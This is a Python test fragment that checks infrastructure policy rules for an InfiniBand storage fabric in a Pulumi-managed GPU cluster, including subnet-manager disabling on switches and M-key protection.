    storage = Res("gpucluster:fabric:StorageFabric", "storage-fabric", props,
                  urn="urn:pulumi:prod::gpu-cluster::gpucluster:fabric:StorageFabric::"
                      "storage-fabric")
    plan = [*prod_plan, storage]
    assert violations("fabric-one-leaf-per-rail-per-su", plan, storage) == []
    assert violations("switch-sm-disabled", plan, storage) == []
    leaf(props, "storage-leaf-su1-r0-1").update(switchSmDisabled=False)
    props["facts"]["subnetManagers"][0].update(mKeyProtection=1)
    found = violations("switch-sm-disabled", plan, storage)
    assert len(found) == 1 and found[0].endswith(
        "switch storage-leaf-su1-r0-1 does not run `no ib sm`")
    assert violations("subnet-manager-m-key-protected", plan, storage)
